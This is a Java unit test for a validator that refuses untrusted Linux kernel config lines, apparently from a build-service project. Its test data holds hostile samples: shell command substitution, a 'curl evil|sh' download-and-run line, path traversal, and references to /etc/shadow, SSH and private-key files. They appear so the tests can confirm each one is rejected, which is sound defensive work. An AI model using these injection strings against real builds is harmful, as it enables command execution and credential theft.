package dev.halfspeed.controller;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.halfspeed.problem.Problem;
import dev.halfspeed.problem.ProblemCode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Configurations whose senders may name no paths. */
final class UntrustedConfigTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "CONFIG_LOCALVERSION=\"$(shell id)\"",
        "CONFIG_CMDLINE=\"`id`\"",
        "CONFIG_INITRAMFS_SOURCE=\"/root/.ssh\"",
        "CONFIG_EXTRA_FIRMWARE=\"../../etc/shadow\"",
        "CONFIG_SYSTEM_TRUSTED_KEYS=\"/etc/ssl/private/key.pem\"",
        "CONFIG_MODULE_SIG_KEY=\"/etc/ssl/private/key.pem\"",
        "CONFIG_CROSS_COMPILE=\"ccache-\"",
        "CONFIG_NR_CPUS=$(shell id)",
        "CONFIG_INITRAMFS_SOURCE=\"x;curl evil|sh\"",
        "CONFIG_INITRAMFS_SOURCE=\"~\"",
        "CONFIG_INITRAMFS_SOURCE=\"..\"",
        "CONFIG_INITRAMFS_SOURCE=\"files\"",
        "CONFIG_INITRAMFS_SOURCE=files",
        "CONFIG_EXTRA_FIRMWARE=\"shadow\"",
        "CONFIG_SYSTEM_TRUSTED_KEYS=\"key.pem\"",
        "CONFIG_SYSTEM_REVOCATION_KEYS=\"key.pem\"",
        "CONFIG_SYSTEM_BLACKLIST_HASH_LIST=\"hashes\"",
        "CONFIG_UNUSED_KSYMS_WHITELIST=\"symbols\"",
        "CONFIG_MODULE_SIG_KEY=\"pkcs11:token=a\"",
        "CONFIG_LOCALVERSION=\"-a;id\"",
        "CONFIG_LOCALVERSION=\"-a|id\"",
        "CONFIG_LOCALVERSION=\"-a&id\"",
        "CONFIG_LOCALVERSION=\"-a>b\"",
        "CONFIG_LOCALVERSION=\"-a(b)\"",
        "CONFIG_LOCALVERSION=\"*\"",
        "CONFIG_LOCALVERSION=\"~\"",
        "CONFIG_LOCALVERSION=\"a'b\"",
        "CONFIG_LOCALVERSION=\"a\\\\b\"",
        "CONFIG_LOCALVERSION=\"a\tb\"",
        "CONFIG_LOCALVERSION=\"a\u2028b\"",
        "CONFIG_LOCALVERSION=\"a\rCONFIG_SMP=y\"",
        "CONFIG_EXTRA_FIRMWARE_DIR=\"..\"",
        "CONFIG_CC_VERSION_TEXT=\"gcc `id`\""
      })
  void whatTheBuildWouldReadOrRunIsRefused(String line) {
    assertThatThrownBy(() -> UntrustedConfig.check("bad.config", line + "\n"))
        .isInstanceOfSatisfying(
            Problem.class,
            problem -> {
              assertThat(problem.code()).isEqualTo(ProblemCode.PATH_NOT_ALLOWED);
              assertThat(problem.what())
                  .startsWith("bad.config has")
                  .endsWith(line.substring(0, line.indexOf('=')));
            });
  }

  @Test
  void eachOfSeveralLinesAboutASymbolCounts() {
    String replaced = "CONFIG_INITRAMFS_SOURCE=\"files\"\nCONFIG_INITRAMFS_SOURCE=\"\"\n";
    assertThatThrownBy(() -> UntrustedConfig.check("bad.config", replaced))
        .hasMessageContaining("CONFIG_INITRAMFS_SOURCE");
  }

  @Test
  void whatOnlyTheKernelReadsIsNot() throws Problem {
    UntrustedConfig.check(
        "good.config",
        """
        CONFIG_CC_VERSION_TEXT="gcc (Ubuntu 13.3.0-6ubuntu2~24.04) 13.3.0"
        CONFIG_RUSTC_VERSION_TEXT="rustc 1.85.0 (4d91de4e4 2025-02-17)"
        CONFIG_CC_IMPLICIT_FALLTHROUGH="-Wimplicit-fallthrough=5"
        CONFIG_LOCALVERSION="-6.12+deb13-amd64"
        CONFIG_DEFAULT_HOSTNAME="(none)"
        CONFIG_LSM="landlock,lockdown,yama,loadpin,safesetid,integrity,bpf"
        CONFIG_NR_CPUS=8192
        CONFIG_PHYSICAL_START=0x1000000
        CONFIG_MODULE_SIG_KEY="certs/signing_key.pem"
        CONFIG_MODPROBE_PATH="/sbin/modprobe"
        CONFIG_CMDLINE="root=/dev/vda quiet"
        CONFIG_INITRAMFS_SOURCE=""
        CONFIG_CROSS_COMPILE=""
        # CONFIG_DEBUG_INFO is not set
        """);
  }
}
